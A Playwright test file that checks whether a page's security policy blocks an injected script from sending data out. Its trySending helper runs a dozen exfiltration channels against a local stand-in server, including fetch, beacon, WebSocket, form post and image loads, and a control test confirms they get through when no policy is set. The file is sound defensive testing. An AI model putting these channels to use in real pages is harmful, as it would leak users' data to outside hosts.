import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page } from '@playwright/test';
import { test as withProfile } from './profile';
import { ways } from './ways';

interface Foreign {
	address: string;
	/** What has come in, by path. */
	asked: string[];
}

/** With a server that is not the product's, and would take anything from anyone. */
const test = withProfile.extend<{ foreign: Foreign }>({
	// Playwright wants the pattern, even where nothing is taken from it.
	foreign: async ({}, use) => {
		const asked: string[] = [];
		const server = createServer((request, response) => {
			asked.push(request.url ?? '');
			response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end();
		});
		await use({ address: await listen(server), asked });
		server.close();
	}
});

function listen(server: Server): Promise<string> {
	return new Promise((resolve) => {
		server.listen(0, '127.0.0.1', () => {
			resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
		});
	});
}

/** What a hostile script would try that got into the page: send something, in every known way. */
async function trySending(page: Page, foreign: Foreign): Promise<void> {
	await page.evaluate(async (to) => {
		const append = (name: string, attributes: Record<string, string>) => {
			const element = document.createElement(name);
			for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
			return document.body.appendChild(element);
		};
		const load = (url: string) =>
			new Promise((resolve) => {
				const image = new Image();
				image.onload = image.onerror = resolve;
				image.src = url;
			});
		const attempts = [
			() => fetch(`${to}fetch`),
			() => navigator.sendBeacon(`${to}beacon`, 'answers'),
			() => new WebSocket(`${to.replace('http', 'ws')}socket`),
			() => new EventSource(`${to}events`),
			() => new FontFace('x', `url(${to}font)`).load(),
			() => append('link', { rel: 'stylesheet', href: `${to}style` }),
			() => append('link', { rel: 'prefetch', href: `${to}prefetch` }),
			() => append('iframe', { src: `${to}frame` }),
			() => append('video', { src: `${to}video` }),
			() => append('script', { src: `${to}script` }),
			() => (append('form', { action: `${to}form`, method: 'post' }) as HTMLFormElement).submit(),
			// The last, and waited for: by then the others have had their turn.
			() => load(`${to}image`)
		];
		for (const attempt of attempts) {
			try {
				await attempt();
			} catch {
				// Refused, as it should be.
			}
		}
	}, foreign.address);
}

for (const way of ways) {
	test(`a script in the page could send nothing away, ${way.name}`, async ({
		profile,
		foreign
	}) => {
		const place = await way.provide(profile.folder);
		const browser = await profile.start(place.args);
		const page = await browser.newPage();
		await page.goto(place.address);
		await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
		await trySending(page, foreign);
		// The page is still there: the form has led nowhere.
		expect(await page.evaluate(() => document.querySelector('h1') !== null)).toBe(true);
		expect(foreign.asked).toEqual([]);
		await place.close();
	});
}

test('a page without the policy does send, so that silence above means something', async ({
	profile,
	foreign
}) => {
	const browser = await profile.start();
	const page = await browser.newPage();
	await page.setContent('<h1>no policy</h1>');
	await trySending(page, foreign).catch(() => undefined);
	await expect
		.poll(() => foreign.asked)
		.toEqual(expect.arrayContaining(['/fetch', '/beacon', '/style', '/script', '/form']));
});
